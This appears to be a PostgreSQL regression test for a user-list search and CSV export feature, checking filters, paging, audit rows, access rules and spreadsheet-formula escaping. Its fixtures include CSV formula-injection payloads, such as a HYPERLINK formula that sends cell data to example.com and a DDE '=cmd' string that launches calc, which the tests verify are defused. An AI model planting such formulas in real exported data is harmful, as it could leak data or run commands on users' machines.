-- The list of users: searched with every filter, page by page, counted, and exported; in an
-- office its own users alone.
\set SHOW_CONTEXT never
SELECT count(bestauth.create_company(code, code)) FROM unnest('{userlist_clinic,userlist_far}'::text[]) code;
SELECT count(bestauth.create_portal(company, code, kind, code)) FROM (VALUES ('userlist_clinic', 'docs', 'provider'), ('userlist_clinic', 'other', 'provider'), ('userlist_far', 'docs', 'provider')) v (company, code, kind);
CREATE ROLE regress_userlist_app;
SELECT bestauth.grant_access('regress_userlist_app', 'application');
GRANT USAGE ON SCHEMA regress TO regress_userlist_app;
CREATE TEMP TABLE office (name text PRIMARY KEY, office_id uuid);
INSERT INTO office SELECT name, bestauth.create_office(company, identifier, name, qualifier, portal => portal) FROM (VALUES
	('Main Street Clinic', '11-3437602', '24', 'userlist_clinic', 'docs'), ('Älster Praxis', '-22.000 111', '24', 'userlist_clinic', 'docs'), ('=Main Office', '113437602', '34', 'userlist_clinic', 'docs'),
	('Elsewhere', '11-3437602', '24', 'userlist_clinic', 'other'), ('Far', '11-3437602', '24', 'userlist_far', 'docs')) v (name, identifier, qualifier, company, portal);
CREATE TEMP TABLE provider (name text PRIMARY KEY, provider_id uuid, npi text);
INSERT INTO provider SELECT last_name, bestauth.create_provider(office_id, npi, 'Pro', last_name, NULL), npi FROM (VALUES
	('One', 'Main Street Clinic', '1234567893'), ('Two', 'Main Street Clinic', '1245319599'), ('Three', 'Älster Praxis', '1234567893')) v (last_name, office, npi) JOIN office ON office.name = office;
SELECT count(bestauth.create_role(name, '{claims}', company => 'userlist_clinic')) FROM unnest('{"=1+1","-Temp"}'::text[]) name;
-- Who is in the list, and what of them, told by hand: what follows is compared with it. A
-- provider is at individual level.
CREATE TEMP TABLE person (n serial, username text PRIMARY KEY, office text, provider text, first_name text, last_name text, roles text[], locked boolean, deleted boolean, portal text DEFAULT 'docs');
INSERT INTO person (username, office, provider, first_name, last_name, roles, locked, deleted) VALUES
	('tina', 'Main Street Clinic', NULL, 'Tina', 'Tin', '{Provider - Administrator}', false, false),
	('indira', 'Main Street Clinic', 'One', 'Indira', 'Individual', '{Provider - Administrator}', false, false),
	('anna', 'Main Street Clinic', 'One', 'Anna', 'Müller', '{Provider - Portal User}', false, false),
	('Anton', 'Main Street Clinic', 'One', 'Anton', 'Muller', '{Provider - Portal User,-Temp}', true, false),
	('bert', 'Main Street Clinic', 'One', 'Bert', 'Able', '{}', false, true),
	('berta', 'Main Street Clinic', 'Two', 'Berta', 'Baker', '{Provider - Clerical User}', false, false),
	('carl', 'Main Street Clinic', NULL, 'Carl', 'Muldoon', '{Provider - Clerical User,Provider - Portal User}', true, false),
	('cora', 'Main Street Clinic', NULL, 'Cora', 'Baker', '{Provider - Portal User}', false, true),
	('guess', 'Main Street Clinic', 'One', 'Anna', 'Guess', '{}', true, false),
	('both', 'Main Street Clinic', NULL, 'Both', 'Baker', '{}', true, true),
	('albert', 'Älster Praxis', NULL, 'Albert', 'Müller', '{Provider - Portal User}', false, false),
	('anne', 'Älster Praxis', 'Three', 'Anne', 'Baker', '{Provider - Administrator}', true, false),
	('alien', 'Älster Praxis', 'Three', 'Alien', 'Able', '{}', false, true),
	('hyper', '=Main Office', NULL, '=HYPERLINK("http://example.com/"&A1,"x")', 'Able', '{=1+1}', false, false),
	('minus', '=Main Office', NULL, '-2+3', 'Able', '{-Temp}', false, false),
	('plus', '=Main Office', NULL, '+1', 'Able', '{}', false, false),
	('sum', '=Main Office', NULL, '@SUM(A1:A9)', 'Able', '{}', false, true),
	('quoted', '=Main Office', NULL, '"=1+1"', 'Able', '{}', true, false),
	('obrien', '=Main Office', NULL, 'Anne-Marie', 'O''Brien', '{}', false, false),
	('comma', '=Main Office', NULL, 'A "B", C', 'D=E+F-G@H', '{}', false, false);
INSERT INTO person (username, office, provider, first_name, last_name, roles, locked, deleted, portal) VALUES ('anna2', 'Elsewhere', NULL, 'Anna', 'Müller', '{Provider - Portal User}', false, false, 'other');
GRANT SELECT ON person, office, provider TO bestauth_owner, regress_userlist_app;
SET ROLE bestauth_owner;
INSERT INTO bestauth.user_account (company_id, portal_id, office_id, provider_id, username, user_type, first_name, last_name, email, verified_at)
SELECT o.company_id, o.portal_id, o.office_id, v.provider_id, p.username, 'provider', p.first_name, p.last_name, p.username || '@userlist.example', clock_timestamp()
FROM person p JOIN office f ON f.name = p.office JOIN bestauth.office o USING (office_id) LEFT JOIN provider v ON v.name = p.provider ORDER BY n;
RESET ROLE;
SELECT count(bestauth.assign_role(username, role, 'userlist_clinic', portal)) FROM person, unnest(roles) role;
-- The company's own people.
SELECT count(bestauth.create_user(username, 'standard', 'Anna', username, username || '@userlist.example', 'seven green boats of ' || username, permissions => permissions, company => 'userlist_clinic'))
FROM (VALUES ('head', '{manage_users}'::text[]), ('portals', '{manage_portal_users}'), ('hand', '{claims}')) v (username, permissions);
-- Who logs in has a temporary password first.
CREATE TEMP TABLE token (username text PRIMARY KEY, token text);
GRANT SELECT ON token TO regress_userlist_app;
INSERT INTO token SELECT username, session_token FROM unnest('{head,portals,hand}'::text[]) username, LATERAL bestauth.login('userlist_clinic', username, 'seven green boats of ' || username);
CREATE FUNCTION pg_temp.enter(username text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
	word text := bestauth.reset_password(username, 'userlist_clinic', 'docs');
	challenge text := (SELECT challenge_token FROM bestauth.login('userlist_clinic', username, word, 'docs'));
	result text := bestauth.set_password(challenge, 'seven green boats of ' || username);
BEGIN
	INSERT INTO token SELECT username, session_token FROM bestauth.login('userlist_clinic', username, 'seven green boats of ' || username, 'docs');
	RETURN result;
END
$$;
SELECT username, pg_temp.enter(username) FROM unnest('{tina,indira}'::text[]) username;
SELECT count(bestauth.lock_user(username, 'userlist_clinic', portal)) FROM person WHERE locked AND username <> 'guess';
SELECT count(bestauth.delete_user(username, 'userlist_clinic', portal)) FROM person WHERE deleted;
SET bestauth.lockout_threshold = 1;
SELECT outcome FROM bestauth.login('userlist_clinic', 'guess', 'a wrong green boat', 'docs');
RESET bestauth.lockout_threshold;

-- Three who look: the operator at the portal, and sessions at TIN and at individual level.
CREATE TEMP TABLE viewer (viewer text PRIMARY KEY, arguments text, username text);
INSERT INTO viewer VALUES ('operator', $$company => 'userlist_clinic', portal => 'docs'$$, NULL), ('TIN level', NULL, 'tina'), ('individual level', NULL, 'indira');
CREATE TEMP VIEW seen AS SELECT v.viewer, p.* FROM viewer v JOIN person p ON p.portal = 'docs'
	AND (v.viewer = 'operator' OR p.office = 'Main Street Clinic') AND (v.viewer <> 'individual level' OR p.provider = 'One');
GRANT SELECT ON viewer, seen TO regress_userlist_app;
CREATE FUNCTION pg_temp.look(viewer text) RETURNS void LANGUAGE plpgsql SET client_min_messages = error AS $$
BEGIN
	PERFORM bestauth.use_session(t.token) FROM viewer v JOIN token t USING (username) WHERE v.viewer = look.viewer;
END
$$;

--
-- [PRV-17] The list: name, user name, type, office, role, locked and until when, deleted. A
-- session of an office sees its users, at individual level those of its provider.
--
SELECT name, username, user_type, office, role, locked, locked_until > clock_timestamp() AS until, deleted, next FROM bestauth.search_users(company => 'userlist_clinic', portal => 'docs');
BEGIN;
SELECT pg_temp.look('TIN level');
SELECT string_agg(username, ' ') AS users, bestauth.count_users() FROM bestauth.search_users();
SELECT pg_temp.look('individual level');
SELECT string_agg(username, ' ') AS users, bestauth.count_users() FROM bestauth.search_users();
COMMIT;
SELECT string_agg(username, ' ') AS without_a_portal FROM bestauth.search_users(company => 'userlist_clinic');

--
-- [PRV-17] Every filter, alone and in pairs: what is listed is who is meant, in order; so many
-- are counted; page by page they are the same, and so is the export.
--
CREATE TEMP TABLE filter (n serial, argument text, value text, meant text, UNIQUE (argument, value));
INSERT INTO filter (argument, value, meant) VALUES
	('first_name', '''an''', $$first_name LIKE 'An%'$$), ('first_name', '''ANNA''', $$first_name = 'Anna'$$), ('first_name', '''=hyper''', $$username = 'hyper'$$), ('first_name', '''nna''', 'false'),
	('last_name', '''mul''', $$last_name LIKE 'Mul%' OR last_name LIKE 'Mül%'$$), ('last_name', '''Müller''', $$last_name IN ('Müller', 'Muller')$$), ('last_name', '''baker''', $$last_name = 'Baker'$$),
	('username', '''AN''', $$username IN ('anna', 'Anton', 'anne')$$), ('username', '''bert''', $$username IN ('bert', 'berta')$$), ('username', '''%''', 'false'),
	('role', '''provider - portal user''', $$'Provider - Portal User' = ANY (roles)$$), ('role', '''Provider - Clerical User''', $$'Provider - Clerical User' = ANY (roles)$$), ('role', '''Provider''', 'false'),
	('user_type', '''provider''', 'true'), ('user_type', '''client''', 'false'),
	('office', '''11-3437602''', $$office IN ('Main Street Clinic', '=Main Office')$$), ('office', '''1134 37.602''', $$office IN ('Main Street Clinic', '=Main Office')$$), ('office', '''22000111''', $$office = 'Älster Praxis'$$),
	('office', '''113''', 'false'), ('office', '''main st''', $$office = 'Main Street Clinic'$$), ('office', '''ALSTER praxis''', $$office = 'Älster Praxis'$$), ('office', '''=main''', $$office = '=Main Office'$$), ('office', '''street''', 'false'), ('office', '''Elsewhere''', 'false'),
	('locked', 'true', 'locked'), ('locked', 'false', 'NOT locked'), ('deleted', 'true', 'deleted'), ('deleted', 'false', 'NOT deleted');
GRANT SELECT ON filter TO regress_userlist_app;
CREATE FUNCTION pg_temp.users_of(call text) RETURNS text[] LANGUAGE plpgsql AS $$
DECLARE
	result text[];
BEGIN
	EXECUTE format('SELECT coalesce(array_agg(username ORDER BY n), ''{}'') FROM bestauth.%s WITH ORDINALITY u (%s)', call,
		CASE WHEN call LIKE 'export%' THEN 'name, username, office, role, locked, lockout_time, deleted, n' ELSE 'name, username, user_type, office, role, locked, locked_until, deleted, next, n' END) INTO result;
	RETURN result;
END
$$;
CREATE FUNCTION pg_temp.pages_of(arguments text, size int) RETURNS text[] LANGUAGE plpgsql AS $$
DECLARE
	result text[] := '{}';
	after text;
	page text[];
BEGIN
	FOR n IN 1 .. 100 LOOP
		EXECUTE format('SELECT array_agg(username ORDER BY n), max(next COLLATE "C") FROM bestauth.search_users(%s) WITH ORDINALITY u (name, username, user_type, office, role, locked, locked_until, deleted, next, n)',
			concat_ws(', ', nullif(arguments, ''), format('page_size => %s, after => %L', size, after))) INTO page, after;
		EXIT WHEN page IS NULL;
		result := result || page;
	END LOOP;
	RETURN result;
END
$$;
CREATE FUNCTION pg_temp.check_filters(viewer text, first filter, second filter, OUT arguments text, OUT expected text[], OUT listed text[], OUT counted bigint, OUT paged text[], OUT exported text[]) LANGUAGE plpgsql AS $$
BEGIN
	arguments := concat_ws(', ', (SELECT v.arguments FROM viewer v WHERE v.viewer = check_filters.viewer), first.argument || ' => ' || first.value, second.argument || ' => ' || second.value);
	EXECUTE format('SELECT coalesce(array_agg(username ORDER BY lower(username) COLLATE "C"), ''{}'') FROM seen WHERE viewer = %L AND (%s) AND (%s)', viewer, coalesce(first.meant, 'true'), coalesce(second.meant, 'true')) INTO expected;
	listed := pg_temp.users_of(format('search_users(%s)', arguments));
	exported := pg_temp.users_of(format('export_users(%s)', arguments));
	EXECUTE format('SELECT bestauth.count_users(%s)', arguments) INTO counted;
	paged := pg_temp.pages_of(arguments, 2);
END
$$;
CREATE TEMP TABLE compared (viewer text, filters int, first text, second text, expected text[], listed text[], counted bigint, paged text[], exported text[]);
GRANT INSERT ON compared TO regress_userlist_app;
CREATE FUNCTION pg_temp.compare(viewer text) RETURNS bigint LANGUAGE plpgsql AS $$
DECLARE
	rows bigint;
BEGIN
	PERFORM pg_temp.look(viewer);
	INSERT INTO compared SELECT compare.viewer, p.filters, concat_ws(' ', (p.one).argument, (p.one).value), concat_ws(' ', (p.two).argument, (p.two).value), c.expected, c.listed, c.counted, c.paged, c.exported
	FROM (SELECT 0 AS filters, NULL::filter AS one, NULL::filter AS two UNION ALL SELECT 1, f, NULL FROM filter f
		UNION ALL SELECT 2, f, g FROM filter f JOIN filter g ON f.n < g.n AND f.argument <> g.argument) p, LATERAL pg_temp.check_filters(compare.viewer, p.one, p.two) c;
	GET DIAGNOSTICS rows = ROW_COUNT;
	RETURN rows;
END
$$;
SELECT max(audit_id) AS mark FROM bestauth.audit_log \gset
SELECT pg_temp.compare('operator');
SELECT pg_temp.compare('TIN level');
SELECT pg_temp.compare('individual level');
SELECT max(audit_id) AS done FROM bestauth.audit_log \gset
SELECT viewer, first, array_to_string(listed, ' ') AS listed FROM compared WHERE filters = 1 AND viewer = 'operator' ORDER BY (SELECT n FROM filter WHERE concat_ws(' ', argument, value) = first);
SELECT viewer, filters, count(*) AS calls, sum(cardinality(expected)) AS meant, sum(cardinality(listed)) AS listed, sum(counted) AS counted, sum(cardinality(paged)) AS paged, sum(cardinality(exported)) AS exported FROM compared GROUP BY 1, 2 ORDER BY 1, 2;
SELECT * FROM compared WHERE (listed, counted, paged, exported) IS DISTINCT FROM (expected, cardinality(expected)::bigint, expected, expected);
-- NULL, and names of spaces, filter nothing.
SELECT bestauth.count_users(NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 'userlist_clinic', 'docs') AS nulls, bestauth.count_users(' ', '  ', '', ' ', NULL, ' ', company => 'userlist_clinic', portal => 'docs') AS spaces, bestauth.count_users(company => 'userlist_clinic', portal => 'docs') AS without;
SELECT regress.attempt($$SELECT bestauth.count_users(user_type => 'doctor', company => 'userlist_clinic')$$), regress.attempt($$SELECT bestauth.export_users(user_type => 'doctor', company => 'userlist_clinic')$$);
-- More than one batch: all of them, in order.
SET ROLE bestauth_owner;
INSERT INTO bestauth.user_account (company_id, portal_id, office_id, username, user_type, first_name, last_name, email)
SELECT o.company_id, o.portal_id, o.office_id, 'many' || n, 'provider', 'Many', 'Many', 'many@userlist.example' FROM office f JOIN bestauth.office o USING (office_id), generate_series(1, 1203) n WHERE f.name = 'Elsewhere';
RESET ROLE;
SELECT count(*), count(DISTINCT username) AS different, bool_and(username COLLATE "C" > before OR before IS NULL) AS in_order, bestauth.count_users(company => 'userlist_clinic', portal => 'other')
FROM (SELECT username, lag(username COLLATE "C") OVER (ORDER BY n) AS before FROM bestauth.export_users(company => 'userlist_clinic', portal => 'other') WITH ORDINALITY u (name, username, office, role, locked, lockout_time, deleted, n)) u;

--
-- [PRV-17] Each export leaves a row in the audit, with how many it told of; a list that is
-- looked at page by page leaves none.
--
SELECT count(*) FILTER (WHERE action = 'users.exported') = (SELECT count(*) FROM compared) AS one_each, count(*) FILTER (WHERE action IS DISTINCT FROM 'users.exported') AS others FROM bestauth.audit_log WHERE audit_id > :mark AND audit_id <= :done;
CREATE TEMP VIEW told AS SELECT viewer, cardinality(expected) AS users, count(*) FROM compared GROUP BY 1, 2;
CREATE TEMP VIEW written AS SELECT CASE username WHEN 'tina' THEN 'TIN level' WHEN 'indira' THEN 'individual level' ELSE 'operator' END AS viewer, (detail->>'count')::int AS users, count(*)
	FROM bestauth.audit_log WHERE audit_id > :mark AND audit_id <= :done GROUP BY 1, 2;
SELECT count(*) > 10 AS many FROM written;
(TABLE told EXCEPT TABLE written) UNION ALL (TABLE written EXCEPT TABLE told);
DROP VIEW written, told;
SELECT username, outcome, company_code, object_type, object_id, old_values, new_values, detail - 'count' AS detail, count(*) FROM bestauth.audit_log WHERE audit_id > :mark AND audit_id <= :done GROUP BY 1, 2, 3, 4, 5, 6, 7, 8 ORDER BY object_type, object_id, username;
SELECT max(audit_id) AS mark FROM bestauth.audit_log \gset
SELECT count(*) FROM bestauth.export_users(company => 'userlist_clinic');
SELECT object_type, object_id, detail FROM bestauth.audit_log WHERE audit_id > :mark AND company_code = 'userlist_clinic';
BEGIN READ ONLY;
SELECT bestauth.count_users(company => 'userlist_clinic', portal => 'docs') AS counted, (SELECT count(*) FROM bestauth.search_users(company => 'userlist_clinic', portal => 'docs')) AS listed;
SELECT regress.attempt($$SELECT bestauth.export_users(company => 'userlist_clinic')$$);
ROLLBACK;

--
-- [PRV-17] The export is the list, cell by cell, but for texts that a spreadsheet would take
-- for a formula: they have an apostrophe before them.
--
COPY (SELECT * FROM bestauth.export_users(locked => false, company => 'userlist_clinic', portal => 'docs')) TO STDOUT (FORMAT csv, HEADER);
SELECT l.username, e.name, e.office, e.role, e.locked = l.locked AND e.lockout_time IS NOT DISTINCT FROM l.locked_until AND e.deleted = l.deleted AND e.username = l.username AS same,
	ltrim(e.name, '''') = l.name AND ltrim(e.office, '''') = l.office AND ltrim(e.role, '''') IS NOT DISTINCT FROM l.role AS same_text, e.lockout_time > clock_timestamp() AS until
FROM bestauth.search_users(company => 'userlist_clinic', portal => 'docs') WITH ORDINALITY l (name, username, user_type, office, role, locked, locked_until, deleted, next, n)
JOIN bestauth.export_users(company => 'userlist_clinic', portal => 'docs') WITH ORDINALITY e (name, username, office, role, locked, lockout_time, deleted, n) USING (n)
WHERE (e.name, e.office, e.role) IS DISTINCT FROM (l.name, l.office, l.role) OR e.locked AND e.lockout_time IS NOT NULL OR e.username <> l.username ORDER BY n;
-- spreadsheet_text: what begins a formula, also behind what one importer or another strips.
SELECT (SELECT string_agg(CASE WHEN c BETWEEN ' ' AND '~' THEN c ELSE '<' || to_hex(ascii(c)) || '>' END, '' ORDER BY n) FROM unnest(string_to_array(v COLLATE "C", NULL)) WITH ORDINALITY u (c, n)) AS text, bestauth.spreadsheet_text(v) = '''' || v AS defused
FROM unnest(ARRAY['=HYPERLINK("http://example.com/","x")', '=cmd|'' /C calc''!A0', '-2+3', '+1', '@SUM(1+1)', '-', '=', ' =1', '   -1', '"=1"', '''=1', ' "''+1', E'\tx', E'\r=1', E'\nx', E' \t=1', '＝1', '＋1', '－1', '＠x', U&'\00A0=1', U&'\3000@x', U&'\FEFF=1', U&'\200B-1', U&'\202E=1', E'\x01=1']) v;
SELECT v AS text, bestauth.spreadsheet_text(v) = v AS as_it_is
FROM unnest(ARRAY['', ' ', '"', '''', 'Anna', 'O''Brien', 'Anne-Marie', 'a=1', '5', '5-3', 'x@y.example', '(=1)', '"Dr." Smith', 'Müller', '—', '#1', '%', '/', '\', 'Дмитрий']) v;
SELECT bestauth.spreadsheet_text(NULL) IS NULL AS null, provolatile, proparallel FROM pg_proc WHERE oid = 'bestauth.spreadsheet_text(text)'::regprocedure;

--
-- Who may: the rules are those of search_users. manage_portal_users counts in an office
-- alone; nobody looks into another portal or company.
--
CREATE FUNCTION pg_temp.as_user(username text, call text) RETURNS text LANGUAGE plpgsql SET client_min_messages = error AS $$
BEGIN
	PERFORM bestauth.use_session((SELECT token FROM token t WHERE t.username = as_user.username));
	RETURN regress.attempt('SELECT bestauth.' || call);
END
$$;
SELECT max(audit_id) AS mark FROM bestauth.audit_log \gset
SET ROLE regress_userlist_app;
SELECT f, regress.attempt(format('SELECT bestauth.%s()', f)) AS without_a_session FROM unnest('{search_users,count_users,export_users}'::text[]) f;
SELECT f, u, pg_temp.as_user(u, f || '()') FROM unnest('{search_users,count_users,export_users}'::text[]) f, unnest('{head,portals,hand,tina,indira}'::text[]) u;
SELECT f, u, a, pg_temp.as_user(u, f || format('(%s)', a)) FROM unnest('{search_users,count_users,export_users}'::text[]) f, (VALUES
	('head', $$portal => 'docs'$$), ('head', $$portal => 'none'$$), ('head', $$company => 'userlist_far'$$), ('tina', $$portal => 'DOCS'$$), ('tina', $$portal => 'other'$$), ('tina', $$portal => 'none'$$), ('tina', $$company => 'userlist_far'$$), ('indira', $$portal => 'other'$$)) v (u, a);
RESET ROLE;
SELECT object_id AS function, username, detail->>'rule' AS rule, count(*) FROM bestauth.audit_log WHERE audit_id > :mark AND company_code = 'userlist_clinic' AND action = 'access.denied' GROUP BY 1, 2, 3 ORDER BY 1, 2, 3;
-- With manage_users outside an office: the portal that is named.
BEGIN;
SELECT user_id IS NOT NULL AS used FROM bestauth.use_session((SELECT token FROM token WHERE username = 'head'));
SELECT bestauth.count_users() AS own, bestauth.count_users(portal => 'docs') AS docs, bestauth.count_users(portal => 'docs', office => '11-3437602') AS of_offices;
COMMIT;

-- [PRV-17] Details have the office, and at individual level the provider; those of who is of
-- another office, or another provider, are not to be had.
SELECT d.username, d.office, f.name AS of_office, p.name AS of_provider, d.npi FROM unnest('{tina,indira,anne,hyper}'::text[]) u, LATERAL bestauth.user_details(u, 'userlist_clinic', 'docs') d LEFT JOIN office f ON f.office_id = d.office_id LEFT JOIN provider p ON p.provider_id = d.provider_id ORDER BY u;
SELECT office IS NULL AND office_id IS NULL AND provider_id IS NULL AND npi IS NULL AS none FROM bestauth.user_details('head', 'userlist_clinic');
SELECT u, o, pg_temp.as_user(u, format('user_details(%L)', o)) FROM unnest('{tina,indira}'::text[]) u, unnest('{tina,indira,anna,berta,albert,anna2,head,nobody}'::text[]) o;

SELECT bestauth.revoke_access('regress_userlist_app', 'application');
REVOKE ALL ON SCHEMA regress FROM regress_userlist_app;
SET client_min_messages = warning;
DROP TABLE viewer, token, person, office, provider, filter, compared CASCADE;
DROP ROLE regress_userlist_app;
